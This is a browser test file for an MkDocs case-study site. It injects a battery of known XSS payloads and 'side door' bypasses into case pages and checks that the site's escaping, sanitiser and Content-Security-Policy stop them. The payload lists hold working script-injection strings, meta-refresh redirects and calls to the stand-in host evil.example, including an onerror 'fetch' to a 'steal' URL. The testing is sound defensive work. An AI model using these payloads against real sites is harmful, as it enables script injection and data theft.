"""No script from a case runs in a reader's browser, even with the validator's HTML checks switched off.

A battery of known XSS payloads goes into titles, summaries, setbacks, lessons, bodies, links, image
sources and source URLs. The site is built with the validator's HTML checks off, so what is tested is
the site's own defences: escaping in templates, the nh3 sanitiser on case bodies, and the
Content-Security-Policy. Every page is opened in Chromium; no dialog may open, no payload global may
be set, and no request may leave the site.
"""

from __future__ import annotations

import logging
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from mkdocs.commands.build import build
from mkdocs.config import load_config
from playwright.sync_api import Browser

from tests.conftest import GOOD, copy_site, switch_off_html_checks, write_case

from .conftest import serve

pytestmark = pytest.mark.browser

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<body onload=alert(1)>",
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="java&#x09;script:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
    '<a href="vbscript:msgbox(1)">click</a>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<style>@import 'http://evil.example/x.css';</style>",
    '<base href="http://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<link rel="stylesheet" href="http://evil.example/x.css">',
    '<img src="http://evil.example/pixel.png">',
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<IMG SRC=JaVaScRiPt:alert(1)>",
    '<div style="background-image:url(javascript:alert(1))">x</div>',
    "<marquee onstart=alert(1)>x</marquee>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "<template><script>alert(1)</script></template>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>',
    "<isindex type=image src=1 onerror=alert(1)>",
    '<img src="x" onerror="fetch(\'http://evil.example/steal\')">',
    '<script src="http://evil.example/x.js"></script>',
    "<p onmouseover=alert(1)>hover</p>",
    "[click](javascript:alert(1))",
    "![x](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    "[ref link][r]\n\n[r]: javascript:alert(1)",
    "![pixel](http://evil.example/pixel.png)",
    "<img src=x onerror=window.xssed=1>",
]
WORDS = "the partners could not agree a plan for the shared service in time"
EVIL = "https://evil.example"
# The side doors the trust review found: ways into the page other than a tag in the text, each with
# neighbours (other entity forms, other page settings, other id syntaxes, other theme ids, other
# slash tricks, other control characters). Each is (front-matter changes, body).
SIDE_DOORS: list[tuple[dict[str, object], str]] = [
    ({"title": f"&lt;/title&gt;&lt;meta http-equiv=refresh content=0;url={EVIL}/t1&gt;"}, "Text."),
    ({"title": f"&#60;/title&#62;&#60;meta http-equiv=refresh content=0;url={EVIL}/t2&#62;"}, "Text."),
    ({"title": f"&#x3c;/title&#x3e;&#x3c;meta http-equiv=refresh content=0;url={EVIL}/t3&#x3e;"}, "Text."),
    ({"title": f"&amp;lt;/title&amp;gt;&lt;meta http-equiv=refresh content=0;url={EVIL}/t4&gt;"}, "Text."),
    ({"summary": f'{WORDS} " http-equiv="refresh" content="0;url={EVIL}/d1 {WORDS} and more words here'},
     "Text."),
    ({}, f"---\ndescription: '0;url={EVIL}/meta-desc\" http-equiv=\"refresh'\ntitle: </title><meta "
         f"http-equiv=refresh content=0;url={EVIL}/meta-title>\ntemplate: main.html\nhide: [toc]\n---\n\nThe story."),
    ({}, f"Title: </title><meta http-equiv=refresh content=0;url={EVIL}/mmd>\nDescription: x\n\nThe story."),
    ({}, f"## Story {{: id='x\"><!--><meta/http-equiv=\"refresh\"/content=\"0;url={EVIL}/toc-id!@\">-- >' }}"),
    ({}, f"## Story {{: #x\"><meta/http-equiv=refresh/content=0;url={EVIL}/toc2> }}"),
    ({}, f"## <a id='x\"><meta http-equiv=refresh content=0;url={EVIL}/h-html>'>Story</a>"),
    ({}, "## Story {: id='x\"><style>body{display:none}</style>' }"),
    ({}, '<div id="__config">{not json</div>'),
    ({}, '<div id="__drawer">x</div><input id="__search"><div id="__palette_0">x</div>'),
    ({}, '<p name="__config">x</p><a name="setbacks">x</a>'),
    ({}, "![x](/\\evil.example/t.png) <img src=\"/\\evil.example/t2.png\"> <img src=\"\\\\evil.example/t3.png\">"),
    ({}, "<img src=\"/&#92;evil.example/t4.png\"> <img src=\"&#47;/evil.example/t5.png\"> "
         "<img src=\"/\t/evil.example/t6.png\">"),
    ({}, "[link](https://ok.example){: href=\"javascript:window.xssed=1\" }"),
    ({}, f"a\n<!--> <meta http-equiv=refresh content=\"0;url={EVIL}/comment\"> -->"),
    ({}, f"<?php <meta http-equiv=refresh content=\"0;url={EVIL}/bogus\"> ?>"),
    ({}, '<div class="md-dialog md-dialog--active">Fake notice</div>'),
    ({"title": "A title with a \x01 control character", "place": "A place \ufffe here"}, "Text \x02 here."),
]


def payload_case(index: int, payload: str) -> dict[str, object]:
    inline = payload.replace("\n", " ")
    return {
        **GOOD,
        "title": f"Case {index} {inline}"[:150],
        "summary": f"{WORDS} {inline} {WORDS} and then it went wrong again for everybody",
        "place": f"Town {inline}",
        "network": inline,
        "setbacks": [{"what": f"{WORDS} {inline}", "why": inline, "response": f"{WORDS} {inline}"}],
        "do_differently": [f"{WORDS} {inline}"],
        "what_worked": [f"{WORDS} {inline}"],
        "sources": [{"title": inline, "url": f'https://example.org/{index}"onmouseover="alert({index})'}],
        "published": f"2024-01-{index % 28 + 1:02d}",
    }


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory: pytest.TempPathFactory) -> Path:
    assert len(PAYLOADS) >= 40
    folder = copy_site(tmp_path_factory.mktemp("hostile"), with_cases=False)
    for index, payload in enumerate(PAYLOADS):
        write_case(folder / "cases", f"payload-{index}.md", payload_case(index, payload),
                   body=f"Before the payload.\n\n{payload}\n\nAfter the payload.\n")
    for index, (changes, text) in enumerate(SIDE_DOORS):
        write_case(folder / "cases", f"side-door-{index}.md",
                   {**GOOD, "published": f"2024-02-{index % 28 + 1:02d}", **changes}, body=text + "\n")
    vocabulary = folder / "cases" / "vocabulary.yml"
    vocabulary.write_text(vocabulary.read_text(encoding="utf-8").replace(
        "Referral pathways", '"&lt;/title&gt;&lt;meta http-equiv=refresh content=0;url=//e.x&gt;"', 1),
        encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        from candour.core import judgement

        switch_off_html_checks(patch)
        patch.setattr(judgement, "placeholder", lambda text: None)
        logger = logging.getLogger("mkdocs")
        level = logger.level
        logger.setLevel(logging.ERROR)  # the hostile cases' warnings are expected here
        try:
            build(load_config(str(folder / "mkdocs.yml"), site_dir=str(folder / "site")))
        finally:
            logger.setLevel(level)
    pages = sorted((folder / "site" / "cases").glob("*/index.html"))
    assert len(pages) == len(PAYLOADS) + len(SIDE_DOORS), "every hostile case must have been published for this " \
                                                          "test to mean anything"
    return folder / "site"


def test_no_payload_runs_on_any_page(browser: Browser, hostile_site: Path) -> None:
    with serve(hostile_site) as base:
        context = browser.new_context()
        dialogs: list[str] = []
        foreign: list[str] = []
        navigated: list[str] = []
        context.on("request", lambda r: foreign.append(f"{r.frame.url} -> {r.url}")
                   if urlsplit(r.url).hostname != "127.0.0.1" else None)
        page = context.new_page()
        page.on("dialog", lambda d: (dialogs.append(f"{page.url}: {d.message}"), d.dismiss()))
        page.on("framenavigated", lambda f: navigated.append(f.url)
                if urlsplit(f.url).hostname not in ("127.0.0.1", None) else None)
        paths = sorted(p.relative_to(hostile_site).as_posix() for p in hostile_site.rglob("*.html"))
        assert len(paths) > len(PAYLOADS)
        for path in paths:
            page.goto(base + path)
            page.mouse.move(200, 300)
            page.mouse.move(400, 500)
            page.wait_for_timeout(20)  # a meta refresh with a zero delay would navigate now
            assert page.url.startswith(base), (path, page.url)
            assert page.evaluate("window.xssed") is None, path
            state = page.evaluate("""() => ({
                titles: document.querySelectorAll('title:not(svg title)').length,
                equivs: [...document.querySelectorAll('meta[http-equiv]')].map(m => m.httpEquiv.toLowerCase()),
                theme: typeof window.component$,
                shown: getComputedStyle(document.body).display !== 'none',
                dialogs: document.querySelectorAll('article .md-dialog').length})""")
            assert state == {"titles": 1, "equivs": ["content-security-policy"], "theme": "object",
                             "shown": True, "dialogs": 0}, (path, state)
            handlers = page.evaluate("""() => [...document.querySelectorAll('article *')].flatMap(
                el => [...el.attributes].filter(a => a.name.startsWith('on')
                    || /^\\s*(javascript|data|vbscript):/i.test(a.value) && /href|src|action|data/.test(a.name))
                .map(a => el.tagName + ' ' + a.name + '=' + a.value))""")
            assert handlers == [], (path, handlers[:3])
        for word in ("alert", "refresh", "title"):  # payloads in titles, excerpts and filter values
            page.goto(base + f"search/?q={word}")
            page.locator(".candour-search__result").first.wait_for()
            page.locator("#candour-search-filters > summary").click()  # the filter values load when opened
            page.locator("#search-filter-region").wait_for()
            page.wait_for_timeout(500)
            assert page.url.startswith(base) and page.evaluate("window.xssed") is None, word
            marks = page.evaluate("""() => [...document.querySelectorAll('#candour-search-results *')]
                .map(el => el.tagName).filter(t => !['LI', 'H2', 'A', 'P', 'MARK'].includes(t))""")
            assert marks == [], (word, marks)  # an excerpt brings no element but Pagefind's <mark>
        context.close()
    assert dialogs == []
    assert foreign == []
    assert navigated == []


def test_the_battery_detects_what_it_is_meant_to(browser: Browser, tmp_path: Path) -> None:
    """The checks above would fail on the page the review found: a refresh, a second title, a dead theme."""
    (tmp_path / "index.html").write_text(
        "<!doctype html><html><head><title>a</title><meta http-equiv=refresh content='0;url=/x.html'>"
        "</head><body><title>b</title></body></html>", encoding="utf-8")
    (tmp_path / "x.html").write_text("<!doctype html><title>x</title>", encoding="utf-8")
    with serve(tmp_path) as base:
        page = browser.new_page()
        page.goto(base + "index.html")
        page.wait_for_timeout(300)
        assert page.url.endswith("/x.html")  # a zero-delay refresh navigates at once
        page.goto(base + "x.html")
        assert page.evaluate("typeof window.component$") == "undefined"
        page.close()
